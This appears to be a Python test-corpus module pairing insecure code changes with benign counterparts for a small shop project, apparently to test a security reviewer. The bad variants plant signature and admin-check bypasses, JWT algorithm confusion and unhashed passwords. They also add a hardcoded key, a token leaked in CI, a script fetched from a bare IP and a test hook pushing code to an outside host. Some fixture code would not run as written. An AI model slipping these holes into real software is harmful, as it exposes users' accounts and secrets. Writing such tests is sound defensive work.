"""Weak logins, hooks and images of strangers, secrets in texts: each beside the honest form."""

from __future__ import annotations

from tests.corpus import Case

_LOGIN = """\
import hashlib
import hmac

import jwt


def verify(body, signature, key):
    mine = hmac.new(key, body, hashlib.sha256).hexdigest()
    return hmac.compare_digest(mine, signature)


def who(token, key):
    return jwt.decode(token, key, algorithms=["HS256"])


def admin_required(view):
    def wrapper(request):
        if not request.session.get("is_admin"):
            raise PermissionError
        return view(request)

    return wrapper
"""
_HOOKS = "repos:\n- repo: https://github.com/psf/black\n  rev: 24.4.2\n  hooks:\n  - id: black\n"
_FLOW = "on: [push]\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n    - run: pytest\n"
BASE = {
    "shop/login.py": _LOGIN,
    ".pre-commit-config.yaml": _HOOKS,
    "Dockerfile": "FROM python:3.12-slim\nUSER shop\n",
    ".github/workflows/test.yml": _FLOW,
    "deploy/settings.yaml": "workers: 4\n",
    "requirements.txt": "click==8.1.7\n",
    "noxfile.py": "import nox\n\n\n@nox.session\ndef t(session):\n    session.install('pytest')\n",
    "tests/conftest.py": "import pytest\n",
}


def _case(name: str, path: str, old: str, bad: str, honest: str) -> Case:
    text = BASE[path]
    assert old in text, old
    changed = ({path: text.replace(old, new, 1)} for new in (bad, honest))
    return Case(name, BASE, next(changed), next(changed), needs_trial=True)


def _added(name: str, path: str, bad: str, honest: str) -> Case:
    text = BASE[path]
    return Case(name, BASE, {path: text + bad}, {path: text + honest}, needs_trial=True)


_PY, _CI, _IMAGE = "shop/login.py", ".github/workflows/test.yml", "Dockerfile"
_COMPARED = "hmac.compare_digest(mine, signature)"
_WITH = "    - run: {}\n      env:\n        T: ${{{{ secrets.PYPI_TOKEN }}}}\n"
CASES = (
    _case("first-letters", _PY, _COMPARED, "mine[:6] == signature[:6]", f"bool({_COMPARED})"),
    _case("begins-with", _PY, _COMPARED, "mine.startswith(signature)", f"{_COMPARED} is True"),
    _case(
        "always", _PY, f"return {_COMPARED}", "return True", f"same = {_COMPARED}\n    return same"
    ),
    _case(
        "way-past-signature",
        _PY,
        "    mine = hmac",
        "    if not signature:\n        return True\n    mine = hmac",
        "    if not signature:\n        return False\n    mine = hmac",
    ),
    _case(
        "way-past-admin",
        _PY,
        "        if not request.session",
        '        if request.GET.get("as"):\n            return view(request)\n'
        "        if not request.session",
        "        if request is None:\n            raise TypeError\n        if not request.session",
    ),
    _case(
        "algorithm-of-the-token",
        _PY,
        '["HS256"]',
        '[jwt.get_unverified_header(token)["alg"]]',
        '["HS256", "HS512"]',
    ),
    _case(
        "over-and-taken",
        _PY,
        '["HS256"])',
        '["HS256"], options={"verify_exp": False})',
        '["HS256"], options={"require": ["exp"]})',
    ),
    _added(
        "no-hash",
        _PY,
        "\n\ndef hash_password(password):\n    return password\n",
        "\n\ndef hash_password(password):\n    return hashlib.scrypt(password, n=16384)\n",
    ),
    _added(
        "few-rounds",
        _PY,
        "\n\ndef kept(p, salt):\n    return hashlib.pbkdf2_hmac('sha256', p, salt, 10)\n",
        "\n\ndef kept(p, salt):\n    return hashlib.pbkdf2_hmac('sha256', p, salt, 600000)\n",
    ),
    _added(
        "environment-in-an-answer",
        _PY,
        "\n\ndef env():\n    import os\n    return jsonify(dict(os.environ))\n".replace(
            "jsonify", "hmac.dumps"
        ),
        "\n\ndef env():\n    import os\n    return os.environ.get('SHOP')\n",
    ),
    _added(
        "code-of-another",
        _PY,
        "\nhmac.new.__code__ = verify.__code__\n",
        "\nCODE = verify.__code__\n",
    ),
    _added(
        "module-swapped",
        _PY,
        "\nimport sys\n\nsys.modules['hashlib'] = hmac\n",
        "\nimport sys\n\nNAMES = sorted(sys.modules)\n",
    ),
    _added(
        "hooks-of-somebody",
        ".pre-commit-config.yaml",
        "- repo: https://github.com/zz-new-tools/lint\n  rev: v1\n  hooks:\n  - id: lint\n",
        "- repo: https://github.com/PyCQA/isort\n  rev: 5.13.2\n  hooks:\n  - id: isort\n",
    ),
    _case("image-of-somebody", _IMAGE, "python:3.12-slim", "zznew/python:3.12", "python:3.13-slim"),
    _case(
        "added-from-the-net",
        _IMAGE,
        "USER shop",
        "ADD https://files.example.invalid/run /run\nUSER shop",
        "COPY run /run\nUSER shop",
    ),
    _case(
        "key-in-the-image",
        _IMAGE,
        "USER shop",
        "ENV STORE_ACCESS_KEY=wJq4rXTunFRMi9K7MDe8bPx\nUSER shop",
        "ENV STORE_ACCESS_KEY_FILE=/run/secrets/key\nUSER shop",
    ),
    _added(
        "address-with-password",
        "deploy/settings.yaml",
        "database: postgresql://shop:n0rthwind9@sql.example.invalid/shop\n",
        "database: postgresql://shop:${SHOP_PASSWORD}@sql.example.invalid/shop\n",
    ),
    _added(
        "from-a-number",
        _CI,
        "    - run: wget -q http://203.0.113.5/s.py -O s.py\n",
        "    - run: wget -q http://127.0.0.1:8000/s.txt -O s.txt\n",
    ),
    _added(
        "turned-around", _CI, _WITH.format('echo "$T" | rev'), _WITH.format("twine upload dist/*")
    ),
    _added("every-right", _CI, "permissions: write-all\n", "permissions:\n  contents: read\n"),
    _added("hardly-known", "requirements.txt", "requests-security-fix\n", "rich==13.7.1\n"),
    _added(
        "pushed-elsewhere",
        "tests/conftest.py",
        "import subprocess\n\n\ndef pytest_unconfigure(config):\n"
        "    subprocess.run(['git', 'push', 'https://git.example.invalid/x', 'HEAD'])\n",
        "import subprocess\n\n\ndef pytest_unconfigure(config):\n"
        "    subprocess.run(['git', 'status', '--short'])\n",
    ),
    _case(
        "tool-from-elsewhere",
        "noxfile.py",
        "'pytest'",
        "'git+https://git.example.invalid/tools.git'",
        "'pytest', 'coverage'",
    ),
)
